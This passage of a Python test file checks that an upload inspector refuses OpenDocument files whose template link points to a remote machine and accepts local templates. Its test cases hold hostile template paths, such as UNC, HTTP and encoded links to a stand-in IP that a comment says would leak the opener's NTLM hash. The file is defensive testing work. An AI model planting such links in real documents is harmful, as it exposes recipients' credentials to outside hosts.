    refused = _refusal(tmp_path, _odf(ODT, "<office:text/>", redirect), "upload.odt")
    assert "fetches from outside as it opens" in refused.reason
    template = _meta(
        '<meta:template xlink:type="simple" xlink:actuate="onRequest" xlink:title="Letter" '
        'xlink:href="../../Templates/Letter.ott" meta:date="2026-01-02T10:00:00"/>'
        "<meta:generator>LibreOffice/7.6</meta:generator>"
    )
    assert _inspect(tmp_path, _odf(ODT, "<office:text/>", template), "upload.odt") == "odt"


@pytest.mark.parametrize(
    ("href", "taken"),
    [
        ("file://///203.0.113.9/share/Letter.ott", False),  # UNC: the opener's NTLM hash
        ("\\\\203.0.113.9\\share\\Letter.ott", False),
        ("http://203.0.113.9/Letter.ott", False),
        ("file://fileserver/share/Letter.ott", False),
        ("%2F%2F203.0.113.9/share/Letter.ott", False),
        ("../../Templates/Letter.ott", True),  # beside the document, as LibreOffice writes it
        ("file:///home/jo/Templates/Letter.ott", True),
        ("file:///C:/Users/jo/Templates/Letter.ott", True),
        ("C:\\Users\\jo\\Templates\\Letter.ott", True),
    ],
)
def test_a_template_on_another_machine_is_refused_and_one_on_the_openers_drives_taken(
    tmp_path: Path, href: str, taken: bool
) -> None:
    meta = _meta(f'<meta:template xlink:type="simple" xlink:href="{href}"/>')
    document = _odf(ODT, "<office:text/>", meta)
    if taken:
        assert _inspect(tmp_path, document, "upload.odt") == "odt"
    else:
        refused = _refusal(tmp_path, document, "upload.odt")
        assert "a template from elsewhere" in refused.reason
